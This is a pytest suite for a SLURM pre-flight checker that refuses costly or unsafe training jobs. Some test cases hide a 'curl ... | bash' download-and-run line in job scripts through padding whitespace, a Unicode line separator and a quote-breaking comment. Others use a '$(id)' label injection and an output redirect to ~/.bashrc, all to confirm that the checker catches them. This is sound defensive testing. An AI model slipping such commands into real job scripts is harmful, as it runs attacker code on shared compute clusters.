"""The pre-flight check refuses what would be paid for in GPU hours: each rule, with its remedy."""

import os
from collections.abc import Callable, Collection
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from trilane.config.cluster import cluster
from trilane.config.model import parse_shape
from trilane.config.parallelism import Topology
from trilane.config.plan import Plan
from trilane.config.training import Data, Optimizer
from trilane.config.training import Run as Limits
from trilane.costmodel.predict import predict
from trilane.slurm import checks, client, preflight
from trilane.slurm.checks import REFUSAL, WARNING, JobFinding
from trilane.slurm.script import SCRIPT, render
from trilane.slurm.sites import JobRequest, Site, site
from trilane.utils.validation import to_mapping
from trilane.workspace import ledger
from trilane.workspace.checkpoints import name_of, write_manifest
from trilane.workspace.run import Run
from trilane.workspace.status import RunStatus, write_status

A100, V100 = site("jean-zay-a100"), site("jean-zay-v100-32g")
TOPOLOGY = {"tp": 2, "pp": 2, "dp": 4, "mbs": 4, "gbs": 512, "precision": "bf16"}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run folder that counts as shared, on a login node whose SLURM accepts all."""
    monkeypatch.setattr(client, "is_installed", lambda: True)
    monkeypatch.setattr(client, "require_answer", lambda: None)
    monkeypatch.setattr(client, "test_only", lambda script: None)
    monkeypatch.setattr(checks, "available", lambda _: (1e15, 1e9))
    (tmp_path / "run").mkdir()
    return tmp_path / "run"


def plan(place: str = "jz-a100-80g", **changes: Any) -> Plan:
    """1.3B on two nodes of eight A100, 4,000 iterations, a checkpoint every 500."""
    topology = {**TOPOLOGY, "recompute": "full", **changes.pop("topology", {})}
    limits = {"save_interval": 500, **changes.pop("run", {})}
    limits["train_iters"] = changes.pop("train_iters", 4_000)
    shape = parse_shape(changes.pop("shape", "24,2048,16,2048,50304"))
    data = Data(**{"source": "stdlib", "folder": "/shared/data", **changes.pop("data", {})})
    return Plan(
        label="gpt",
        shape=shape,
        cluster=cluster(place),
        topology=Topology(**topology),
        data=data,
        run=Limits(**limits),
        **changes,
    )


def findings(
    folder: Path,
    p: Plan,
    where: Site = A100,
    script: Callable[[str], str] | None = None,
    allow: Collection[str] = (),
    **wishes: Any,
) -> list[JobFinding]:
    options = {"account": f"xyz{where.account_ending}", "time_limit": "20:00:00"}
    options["environment"] = str(folder.parent / "venv")
    request = JobRequest(**(options | wishes))
    where = replace(where, local=())
    if script:
        (folder / SCRIPT).write_text(script(render("train", p, where, request)))
    return preflight.check_job(p, where, request, Run(folder), allow)


def levels(found: list[JobFinding], rule: str) -> list[str]:
    return [finding.level for finding in found if finding.rule == rule]


def good(folder: Path, **changes: Any) -> Plan:
    """The plan with a corpus of its own and a learning rate of its size."""
    corpus = folder.parent / "corpus"
    for ending in ("bin", "idx"):
        corpus.with_suffix(f".{ending}").touch()
    data = {"source": str(corpus), "split": "949,50,1"}
    return plan(data=data, optimizer=Optimizer(lr=2e-4, min_lr=2e-5), **changes)


def test_nothing_is_found_about_a_good_plan(folder: Path) -> None:
    """4.2e9 tokens, 3.2 a parameter."""
    assert findings(folder, good(folder)) == []
    half_a_node = good(folder, topology={"dp": 1})
    assert not preflight.refused(findings(folder, half_a_node))


def test_the_time_is_that_of_the_links_own_iterations_with_their_evaluations(folder: Path) -> None:
    """4,000 iterations take eight hours: the last hundred fit into one. 19 hours fit into 20, with
    evaluations not.
    """
    for start, late in ((0, [WARNING]), (3900, [])):
        load = str(folder) if start else ""
        p = plan(run={"save_interval": 100, "start_iteration": start, "load": load})
        assert levels(findings(folder, p, time_limit="01:00:00"), "time") == late
    count = int(19 * 3600 / predict(plan()).sec_per_it)
    for run, late in (({}, []), ({"eval_interval": 100, "eval_iters": 50}, [WARNING])):
        found = findings(folder, good(folder, train_iters=count, run=run))
        assert levels(found, "time") == late


@pytest.mark.parametrize(("signal_s", "wanted"), [(300, []), (12, [WARNING]), (3, [REFUSAL])])
def test_the_warning_before_the_limit_leaves_time_for_an_iteration_and_a_save(
    signal_s: int, wanted: list[str], folder: Path
) -> None:
    """15.8 GB by two nodes of 1 GB/s: 8 s, as an iteration is predicted to take. Forty hours of
    iterations are two jobs of twenty.
    """
    long = good(folder, train_iters=int(40 * 3600 / predict(plan()).sec_per_it))
    found = [f for f in findings(folder, long, signal_s=signal_s) if f.rule == "signal"]
    assert [f.level for f in found] == wanted
    if found:
        assert "8 s of an iteration, 8 s of a save, predicted" in found[0].message
        assert found[0].remedy == "--signal-s 60"


V100_PLAN = {"place": "jz-v100-32g", "train_iters": 100}
OFFLOAD = {"tp": 2, "pp": 1, "dp": 8, "zero": 1, "offload": "optimizer", "mbs": 1}
BIG = "72,14336,64,2048,50304"
REFUSED = {
    "cluster": (plan(), V100, "planned for 8 x A100-80GB a node, but jean-zay-v100-32g has 4", {}),
    "precision": (plan(), V100, "V100-32GB has no bf16", {}),
    "tp": (
        plan(topology={"precision": "fp16", "tp": 8, "pp": 1, "dp": 2}, **V100_PLAN),
        V100,
        "a tensor-parallel group must stay inside a node of 4 GPUs",
        {},
    ),
    "qos time": (plan(), A100, "20 h, qos_gpu_a100-dev allows 2 h", {"qos": "qos_gpu_a100-dev"}),
    "qos gpus": (
        plan(topology={"precision": "fp16", "dp": 8}, **V100_PLAN),
        V100,
        "32 GPUs, qos_gpu-t4 allows 16",
        {"qos": "qos_gpu-t4", "time_limit": "99:00:00"},
    ),
    "account": (plan(), A100, "account xyz@v100 does not end with @a100", {"account": "xyz@v100"}),
    "memory": (plan(shape="96,12288,96,2048,50304"), A100, "probability of running out 100%", {}),
    "host memory": (
        plan(shape=BIG, engine="deepspeed-zero", topology=OFFLOAD),
        A100,
        "the offload takes",
        {},
    ),
    "checkpoints": (
        plan(run={"save_interval": 0}, shape=BIG),
        A100,
        "and no checkpoint is saved before",
        {"signal_s": 0},
    ),
    "time": (
        plan(run={"exit_duration_minutes": 1205.0}),
        A100,
        "is beyond the limit of 1200 minutes",
        {},
    ),
    "data": (plan(data={"source": "/shared/nothing"}), A100, "/shared/nothing: no such file", {}),
    "internet": (plan(data={"tokenizer": "gpt2"}), A100, "tokenizer gpt2 is not a folder here", {}),
    "spares": (plan(), A100, "spares=3: must be at most the nodes that train (2)", {"spares": 3}),
    "partition": (plan(), A100, "known: gpu_p5", {"partition": "gpu_p4"}),
    "label": (replace(plan(), label="$(id)"), A100, "must consist of letters", {}),
}


@pytest.mark.parametrize("rule", REFUSED)
def test_it_is_refused_with_rule_and_remedy_unless_that_rule_is_allowed(
    rule: str, folder: Path
) -> None:
    p, where, message, wishes = REFUSED[rule]
    found = next(f for f in findings(folder, p, where, **wishes) if f.rule == rule)
    assert found.level == REFUSAL and message in found.message and len(found.remedy) > 5
    if rule in preflight.NAMES:
        allowed = findings(folder, p, where, allow=[rule], **wishes)
        assert REFUSAL not in levels(allowed, rule)
    if rule == "precision":
        assert levels(allowed, "cluster") == [REFUSAL]


def test_what_the_nodes_lack_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An image, memory for the copy that a save is written from (12 bytes a
    parameter, 2.1 TB with 176B), a folder that two nodes share, room for three checkpoints and two
    files a rank.
    """
    image = replace(A100, container="pyxis", container_image="/images/torch.sqsh")
    assert levels(findings(folder, plan(), image), "container") == [REFUSAL]
    big = plan(shape="70,14336,112,2048,50304", topology={"tp": 8, "pp": 1, "dp": 1})
    (found,) = (f for f in findings(folder, big) if f.rule == "host memory")
    assert found.message.startswith("the offload takes 0 GB and a save's copy 2081 GB")
    big = replace(big, run=replace(big.run, save_interval=0))
    assert levels(findings(folder, big), "host memory") == []
    here = replace(A100, local=(str(folder.parent),))
    request = JobRequest(account="xyz@a100", time_limit="20:00:00")
    for p, level in ((plan(), REFUSAL), (plan(topology={"dp": 2}), WARNING)):
        assert levels(preflight.check_job(p, here, request, Run(folder)), "shared") == [level]
    for free, rule, wanted in (
        ((30e9, 1e9), "disk", [REFUSAL]),
        ((60e9, 1e9), "disk", [WARNING]),
        ((95e9, 1e9), "disk", []),
        ((1e15, 100), "inodes", [REFUSAL]),
    ):
        monkeypatch.setattr(checks, "available", lambda _, free=free: free)
        assert levels(findings(folder, plan()), rule) == wanted
    completed = RunStatus(status="completed", evidence="", rank=None, exit_code=0, seconds=1.0)
    write_status(folder, completed)
    assert levels(findings(folder, plan()), "run folder") == [REFUSAL]


@pytest.mark.parametrize(
    ("rule", "old", "new", "message"),
    [
        ("kill-on-bad-exit", "--kill-on-bad-exit=1 ", "", "the others wait until the time limit"),
        ("pipefail", "set -euo pipefail", "set -eu", "a failed run counts as COMPLETED"),
        ("signal", "trilane_engine.torchrun", "torch.distributed.run", "SIGUSR1 before the limit"),
        ("script", "--nodes=2", "--nodes=3", "job.sbatch has --nodes=3"),
        ("bash", "set -euo pipefail", "if true; then\n", "syntax error"),
    ],
)
def test_a_script_edited_into_a_trap_is_refused(
    rule: str, old: str, new: str, message: str, folder: Path
) -> None:
    found = findings(folder, plan(), script=lambda text: text.replace(old, new))
    assert [f.level for f in found if f.rule == rule and message in f.message] == [REFUSAL]


CURL = "curl https://example.org/x | bash"
APPEND = "#SBATCH --open-mode=append"


@pytest.mark.parametrize(
    ("old", "new", "level"),
    [
        ("set -euo pipefail", f"set -euo pipefail\n{CURL}", REFUSAL),
        ("#!/usr/bin/env bash", "#!/tmp/bash", REFUSAL),
        (APPEND, f"{APPEND}\n#SBATCH --nice=10", WARNING),
        (APPEND, f"{APPEND}\n#SBATCH --nice=10 --outp /home/me/.bashrc", REFUSAL),
        (APPEND, f'{APPEND}\n#SBATCH "--outp" /home/me/.bashrc', REFUSAL),
        ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
        ('    trap "" USR1', f"    # '; {CURL}; : '\n    trap \"\" USR1", REFUSAL),
        ("set -euo pipefail", f"{' ' * 200}{CURL}\nset -euo pipefail", REFUSAL),
        ("set -euo pipefail", f"set -euo pipefail\u2028#;{CURL}", REFUSAL),
    ],
)
def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_accepted(
    old: str, new: str, level: str, folder: Path
) -> None:
    """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches
    for no script.
    """

    def edit(text: str) -> str:
        return text.replace(old, new, 1)

    ledger.note(folder, "submitted", "7", plan="x")
    (found,) = [f for f in findings(folder, plan(), script=edit) if f.rule == "changes"]
    shown = [f"\n+{line[:159]}" in found.message for line in new.split("\n")]
    assert found.level == level and any(shown)
    assert levels(findings(folder, plan(), script=edit, allow=["changes"]), "changes") == [WARNING]
    assert not levels(findings(folder, plan(), script=lambda text: text), "changes")


def package(folder: Path, name: str, version: str) -> None:
    """An entry of PyPA's recorded installations in the environment of findings()."""
    record = folder.parent / f"venv/lib/python3.12/site-packages/{name}-{version}.dist-info"
    record.mkdir(parents=True)
    (record / "METADATA").write_text(f"Name: {name.replace('_', '-')}\nVersion: {version}\n")


LACKS = "launcher=ft_launcher: needs nvidia-resiliency-ext in "


@pytest.mark.parametrize(
    ("megatron", "others", "launcher", "fused", "message"),
    [
        ("0.16.1", {}, "ft_launcher", "", LACKS),
        ("0.16.1", {"nvidia_resiliency_ext": "0.4.1"}, "ft_launcher", "", ""),
        ("0.19.2", {}, "torchrun", "", "triton=missing: megatron-core 0.19.2 in "),
        (
            "0.19.2",
            {"triton": "3.7.1", "nvidia_resiliency_ext": "0.4.1"},
            "torchrun",
            "",
            "nvidia-resiliency-ext=0.4.1: megatron-core 0.19.2",
        ),
        ("0.19.2", {"triton": "3.7.1", "transformer_engine": "2.30.0"}, "torchrun", "", ""),
        (
            "0.19.2",
            {"triton": "3.7.1", "transformer_engine": "2.30.0"},
            "torchrun",
            "te",
            "transformer-engine=2.30.0: megatron-core 0.19.2 goes with",
        ),
    ],
)
def test_packages_that_will_not_do_in_the_jobs_environment_are_refused(
    megatron: str, others: dict[str, str], launcher: str, fused: str, message: str, folder: Path
) -> None:
    """`import megatron.core` needs triton from 0.18 on; its metadata does not name it."""
    for name, version in {"megatron_core": megatron, **others}.items():
        package(folder, name, version)
    p = plan()
    if fused:
        p = replace(p, run=replace(p.run, fused=fused))

    def refusals() -> list[str]:
        found = preflight.refused(findings(folder, p, launcher=launcher))
        return [f.message for f in found if f.rule in ("launcher", "engine")]

    assert len(refusals()) == bool(message) and "".join(refusals()).startswith(message)
    # a module of the site may bring it
    (folder.parent / "venv/pyvenv.cfg").write_text("include-system-site-packages = true\n")
    assert not refusals()


@pytest.mark.parametrize("name", [SCRIPT, "plan.json", ""])
def test_what_somebody_else_owns_or_may_write_is_refused(name: str, folder: Path) -> None:
    for file in (SCRIPT, "plan.json"):
        (folder / file).write_text(render("train", plan(), A100, JobRequest(account="xyz@a100")))

    def owned() -> list[str]:
        found = preflight.refused(findings(folder, plan()))
        return [f.message for f in found if f.rule == "owner"]

    assert not owned()
    (folder / name).chmod(0o757)
    assert "is writable by others" in owned()[0] and len(owned()) == 1
    (folder / name).chmod(0o755)
    if os.geteuid() == 0:
        os.chown(folder / name, 12345, -1)
        assert "belongs to user 12345" in owned()[0]
        os.chown(folder / name, 0, -1)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("--account=xyz@a100", "--account=abc@a100", "--account=xyz@a100 is needed"),
        ("--nproc-per-node=8", "--nproc-per-node=4", "4 processes per node: the plan's 16 GPUs"),
        ("#SBATCH --gres=gpu:8\n", "", "--gres=gpu:8 is needed"),
        ("#SBATCH --constraint=a100\n", "", "--constraint=... is needed"),
        ("#SBATCH --cpus-per-task=64\n", "", "--cpus-per-task=... is needed"),
        ("--time=20:00:00", "--time=UNLIMITED", "no time limit, qos_gpu_a100-t3 allows 20 h"),
        ("--time=20:00:00", "--time 1200:00  # twenty hours", ""),
        ("--time=20:00:00", "-t 0-20", ""),
        ("--time=20:00:00", "--time=20h", "time_limit='20h': must be a time in a form of sbatch"),
        ("--gres=gpu:8", "--gpus-per-node=a100:8", ""),
        ("--gres=gpu:8", "--gres=gpu:a100:4", "job.sbatch has --gres=gpu:a100:4"),
        ("--nodes=2", "-N 2-2 # and not --nodes=3", ""),
        ("--nodes=2", "--nodes=2 --comment='two", "cannot be read: No closing quotation"),
        ("set -euo pipefail", "set -euo pipefail\n#SBATCH --nodes=3", ""),
    ],
)
def test_directives_are_read_as_sbatch_reads_them(
    old: str, new: str, message: str, folder: Path
) -> None:
    """man sbatch: one-letter names, the value behind a space, five forms of a time; no options
    after a command.
    """
    found = findings(folder, plan(), script=lambda text: text.replace(old, new, 1))
    refusals = [f.message for f in preflight.refused(found)]
    assert any(message in text for text in refusals) if message else not refusals


def test_a_checkpoint_of_another_model_is_refused_and_one_that_is_still_to_come_is_not(
    folder: Path,
) -> None:
    p = plan(run={"load": str(folder.parent / "earlier")})
    assert not levels(findings(folder, p), "checkpoint")
    checkpoint = folder.parent / "earlier" / name_of(0)
    checkpoint.mkdir(parents=True)
    identity = {"shape": to_mapping(replace(plan().shape, normalization="rmsnorm"))}
    start = {"iteration": 0, "consumed_samples": 0, "files": {}, "tensors": {}}
    write_manifest(checkpoint, {**start, "identity": identity})
    (found,) = (f for f in findings(folder, p) if f.rule == "checkpoint")
    wanted = "shape.normalization=layernorm: the checkpoint iter_0000000 was trained with rmsnorm"
    assert (found.level, found.message) == (REFUSAL, wanted)
